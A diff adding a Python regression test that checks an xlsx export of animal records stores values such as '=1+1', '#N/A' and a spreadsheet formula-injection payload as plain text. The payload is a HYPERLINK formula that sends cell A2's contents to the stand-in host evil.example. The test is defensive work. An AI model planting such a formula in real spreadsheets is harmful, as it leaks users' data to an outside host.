@@ -225,3 +225,27 @@ def test_template_export_sheets(tmp_path: Path) -> None:
     wb.close()
     with zipfile.ZipFile(path) as zf:
         assert "xl/worksheets/sheet3.xml" in zf.namelist()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
+
+
+def test_template_export_writes_formulas_and_error_codes_as_text(tmp_path: Path) -> None:
+    """openpyxl's write-only append made a string starting with '=' a live formula."""
+    animal = handmade()[0]
+    animal.attributes["Description"] = [AttributeValue(FORMULA)]
+    animal.attributes["Supplied breed"] = [AttributeValue("=1+1")]
+    animal.attributes["Birth location"] = [AttributeValue("#N/A")]
+    path = tmp_path / "export.xlsx"
+    path.write_bytes(to_template_xlsx([animal]))
+    import openpyxl
+
+    wb = openpyxl.load_workbook(path)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
+    assert {FORMULA, "=1+1", "#N/A"} <= {c.value for c in cells}
+    with zipfile.ZipFile(path) as zf:
+        assert not any(b"<f>" in zf.read(name) for name in zf.namelist()
+                       if name.startswith("xl/worksheets/"))
+    back = _read_back(tmp_path, path.read_bytes(), "again.xlsx")[0]
+    assert back.first("Description") == AttributeValue(FORMULA)  # unchanged, as text
